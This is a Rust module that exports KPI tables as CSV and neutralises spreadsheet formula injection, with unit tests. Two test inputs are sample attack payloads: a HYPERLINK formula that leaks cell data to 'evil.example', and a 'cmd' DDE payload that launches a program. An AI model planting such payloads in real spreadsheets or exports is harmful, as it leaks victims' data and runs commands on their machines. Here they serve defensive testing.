//! A KPI table as CSV (RFC 4180), safe to open in a spreadsheet.
//!
//! - Fields are separated by `,` and records end with CRLF, the last one too.
//! - A text field is quoted when it holds `,`, `"`, CR or LF, its quotes doubled.
//! - Formula injection (OWASP, "CSV Injection"): a text field (a header too) starting with `=`, `+`,
//!   `-`, `@`, tab or CR gets a leading `'` and is quoted, so a spreadsheet shows it as text and
//!   runs nothing. Numbers are never touched: `-5.25` stays a number.
//! - A shown value ([`Cell::Shown`]: a number as this program formats it, `-100.0`, `-1,234.00 €`,
//!   `−12.5 %`) keeps its leading minus: it is neutralised only if anything after that minus could
//!   make it a formula (an operator, a parenthesis, `@`, `!`, `;`, `:`, `|`, a tab or a CR).
//! - A number is written in plain decimal, as short as reads back exactly (`1234.5`, `0.1`,
//!   `-5.25`, `1000000`; never an exponent); none, NaN or an infinity is an empty field.
//!
//! Written by hand rather than with the `csv` crate: the rule quotes a neutralised field even
//! when it holds no special character, which `csv`'s writer decides only per writer
//! (`QuoteStyle`), not per field; the rest is the ten lines of `text_field`.
//!
//! The string has no byte-order mark. Excel reads a CSV file as UTF-8 only with one: prefix
//! [`UTF8_BOM`] to the file's bytes when saving it.

/// Prefix of a CSV file for Excel to read it as UTF-8.
pub const UTF8_BOM: &str = "\u{feff}";

/// One cell of a KPI table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    /// None (an undefined KPI) is an empty cell.
    Number(Option<f64>),
    /// A number as formatted for people (a locale's separators, a unit): text that keeps its
    /// leading minus when nothing after it could be read as a formula.
    Shown(String),
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}

impl From<Option<f64>> for Cell {
    fn from(v: Option<f64>) -> Self {
        Cell::Number(v)
    }
}

/// The table as CSV: the header record, then one record per row (rows may differ in length; no
/// cell is added or dropped).
pub fn kpi_table_csv(headers: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    record(&mut out, headers.iter().map(|h| text_field(h)));
    for row in rows {
        record(
            &mut out,
            row.iter().map(|c| match c {
                Cell::Text(t) => text_field(t),
                Cell::Number(v) => number_field(*v),
                Cell::Shown(t) => shown_field(t),
            }),
        );
    }
    out
}

fn record(out: &mut String, fields: impl Iterator<Item = String>) {
    for (i, f) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&f);
    }
    out.push_str("\r\n");
}

/// Starts like a formula to a spreadsheet (OWASP's list).
fn formula_like(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn text_field(text: &str) -> String {
    quoted(text, formula_like(text))
}

/// A formatted number: `-` then digits, separators, spaces, a currency or `%` is a negative number
/// to a spreadsheet, not a formula.
fn shown_field(text: &str) -> String {
    let negative_number =
        text.strip_prefix('-').is_some_and(|rest| !rest.contains(['=', '+', '-', '*', '/', '^', '&', '@', '(', ')', '!', ';', ':', '|', '\t', '\r']));
    quoted(text, formula_like(text) && !negative_number)
}

fn quoted(text: &str, neutralised: bool) -> String {
    if !neutralised && !text.contains([',', '"', '\r', '\n']) {
        return text.to_string();
    }
    let mut f = String::with_capacity(text.len() + 4);
    f.push('"');
    if neutralised {
        f.push('\'');
    }
    f.push_str(&text.replace('"', "\"\""));
    f.push('"');
    f
}

fn number_field(value: Option<f64>) -> String {
    match value {
        // `{}` is Rust's shortest round-trip decimal, without an exponent; -0 reads 0.
        Some(0.0) => "0".to_string(),
        Some(v) if v.is_finite() => format!("{v}"),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(s: &str) -> Cell {
        Cell::Text(s.to_string())
    }
    fn n(v: f64) -> Cell {
        Cell::Number(Some(v))
    }

    #[test]
    fn plain_table() {
        let csv = kpi_table_csv(&["KPI", "Period", "Value"], &[vec![t("MRR"), t("2024-01"), n(1234.5)], vec![t("NRR"), t("2024-01"), Cell::Number(None)]]);
        assert_eq!(csv, "KPI,Period,Value\r\nMRR,2024-01,1234.5\r\nNRR,2024-01,\r\n");
    }

    #[test]
    fn formula_injection_is_neutralised() {
        let rows = vec![
            vec![t("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"), n(1.0)],
            vec![t("+1"), n(2.0)],
            vec![t("-2+3"), n(3.0)],
            vec![t("@SUM(A1:A9)"), n(4.0)],
            vec![t("\tx"), n(5.0)],
            vec![t("\rx"), n(6.0)],
            vec![t("Plan"), n(-5.25)],
            vec![t("Acme, \"the\" best"), n(-0.0)],
        ];
        let expected = concat!(
            "Segment,Value\r\n",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",1\r\n",
            "\"'+1\",2\r\n",
            "\"'-2+3\",3\r\n",
            "\"'@SUM(A1:A9)\",4\r\n",
            "\"'\tx\",5\r\n",
            "\"'\rx\",6\r\n",
            "Plan,-5.25\r\n",
            "\"Acme, \"\"the\"\" best\",0\r\n",
        );
        assert_eq!(kpi_table_csv(&["Segment", "Value"], &rows), expected);
    }

    #[test]
    fn shown_negative_numbers_stay_numbers_and_formulas_do_not() {
        let shown = |s: &str| Cell::Shown(s.to_string());
        let row = vec![shown("-100.0"), shown("-1,234.00 €"), shown("−12.5 %"), shown("-2+3"), shown("-SUM(A1)"), shown("=1"), shown("12.0")];
        assert_eq!(kpi_table_csv(&[], &[row]), "\r\n-100.0,\"-1,234.00 €\",−12.5 %,\"'-2+3\",\"'-SUM(A1)\",\"'=1\",12.0\r\n");
    }

    #[test]
    fn headers_are_text_too() {
        assert_eq!(kpi_table_csv(&["=cmd|' /C calc'!A0", "a\nb"], &[]), "\"'=cmd|' /C calc'!A0\",\"a\nb\"\r\n");
    }

    #[test]
    fn numbers() {
        let row = vec![n(0.1 + 0.2), n(1e21), n(1e-7), n(-1000000.0), Cell::Number(Some(f64::NAN)), Cell::Number(Some(f64::INFINITY)), t("")];
        assert_eq!(kpi_table_csv(&[], &[row]), "\r\n0.30000000000000004,1000000000000000000000,0.0000001,-1000000,,,\r\n");
    }

    #[test]
    fn text_that_only_looks_odd_is_left_alone() {
        // A leading space, an inner '=', a quote-free unicode name: none start a formula or need quotes.
        assert_eq!(kpi_table_csv(&[" =1", "a=b", "Zürich <script>"], &[]), " =1,a=b,Zürich <script>\r\n");
    }
}
